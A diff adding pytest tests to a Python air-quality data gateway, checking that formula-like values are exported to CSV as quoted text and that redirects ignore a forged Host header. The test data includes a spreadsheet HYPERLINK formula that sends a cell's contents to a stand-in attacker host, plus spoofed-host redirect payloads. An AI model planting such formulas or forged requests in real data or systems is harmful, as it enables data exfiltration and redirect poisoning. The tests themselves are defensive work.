@@ -4,6 +4,7 @@ the input validation: every bad query string is a 400 with a message, never a 50
 from __future__ import annotations
 
 import csv
+import http.client
 import io
 import urllib.parse
 from collections.abc import Iterator
@@ -20,7 +21,7 @@ from gateway.stores.influx_read import InfluxReader
 from gateway.stores.influx_v1 import InfluxV1
 from gateway.stores.influxql import ident
 from gateway.stores.influxql import string as literal
-from gateway.web.app import create_app
+from gateway.web.app import create_app, relative_location
 from gateway.web.opendata import COLUMNS
 from gateway.web.server import BackgroundServer
 from tests.webdata import ACTIVE_MESSAGE, NOW, Site, served_site
@@ -159,6 +160,34 @@ def test_csv_download_has_the_documented_columns_and_licence(site: Site) -> None
     assert first["pm2_5_n"] == "300" and first["pm2_5_cal"] == "pms-a@2026-10-01" and first["flags"] == ""
 
 
+def test_a_formula_in_old_data_is_downloaded_as_text_and_numbers_stay_numbers(
+    influxd: devservices.Service,
+) -> None:
+    """A `cal` id written before the contract refused formulas (straight into InfluxDB) reaches the
+    open-data CSV quoted, so a spreadsheet shows it instead of running it."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"calibration")'
+    with served_site(influxd.port) as fresh:
+        escaped = formula.replace('"', '\\"')  # line protocol: a quote inside a string field
+        line = (
+            "reading,node=haul-road,site=tsagaan "
+            f'pm2_5=12.5,pm2_5_raw=14.0,pm2_5_n=60i,pm2_5_cal="{escaped}",'
+            'air_temp=-5.2,air_temp_raw=-5.0,air_temp_n=60i,air_temp_cal="+cmd",seq=1i,flags="" '
+            "1795000000000"  # 2026-11-18T11:06:40Z
+        )
+        fresh.db.write([line])
+        status, text, _ = fresh.get(
+            "/download/readings.csv",
+            site="tsagaan",
+            node="haul-road",
+            start="2026-11-18T11:00:00Z",
+            end="2026-11-18T11:10:00Z",
+        )
+    assert status == 200
+    (row,) = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["seq"] == "1"]
+    assert row["pm2_5_cal"] == "'" + formula and row["air_temp_cal"] == "'+cmd"
+    assert (row["air_temp"], row["air_temp_raw"], row["pm2_5"]) == ("-5.2", "-5.0", "12.5")
+
+
 def test_pages_answer_and_stay_small(site: Site) -> None:
     """Each page with what it loads (CSS, scripts) stays under 200 KB for a slow phone link."""
     for path, assets in (
@@ -240,6 +269,41 @@ def test_bad_input_on_a_page_is_a_400_page(site: Site) -> None:
 def test_no_query_string_makes_a_500(site: Site, key: str, value: str, path: str) -> None:
     status, _ = site.get_raw(f"{path}?{urllib.parse.urlencode({key: value})}")
     assert status in (200, 400), (path, key, value, status)
+
+
+@pytest.mark.parametrize(
+    ("path", "location"),
+    [("/static", "/static/"), ("/static?v=2", "/static/?v=2"), ("/api/v1/nodes/", "/api/v1/nodes")],
+)
+def test_a_redirect_never_goes_to_the_host_the_request_named(site: Site, path: str, location: str) -> None:
+    """Starlette builds a redirect from the `Host:` header, which anyone can set (and a cache may
+    keep the answer for everyone): the redirect stays a path on this site."""
+    port = urllib.parse.urlsplit(site.url).port
+    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    try:
+        conn.request("GET", path, headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example"})
+        resp = conn.getresponse()
+        resp.read()
+    finally:
+        conn.close()
+    assert 300 <= resp.status < 400
+    assert resp.getheader("location") == location
+    assert site.get(location)[0] in (200, 404)  # the target is on this site (/static/ lists nothing)
+
+
+@pytest.mark.parametrize(
+    ("given", "relative"),
+    [
+        (b"http://evil.example/static/", b"/static/"),
+        (b"https://evil.example:8443/a?b=1#c", b"/a?b=1#c"),
+        (b"//evil.example/x", b"/x"),
+        (b"/\\evil.example/x", b"/evil.example/x"),
+        (b"http://evil.example", b"/"),
+        (b"/node/tsagaan/haul-road", b"/node/tsagaan/haul-road"),
+    ],
+)
+def test_a_location_keeps_only_its_path(given: bytes, relative: bytes) -> None:
+    assert relative_location(given) == relative
 
 
 def test_quoting_escapes_what_would_end_a_string_or_identifier() -> None:
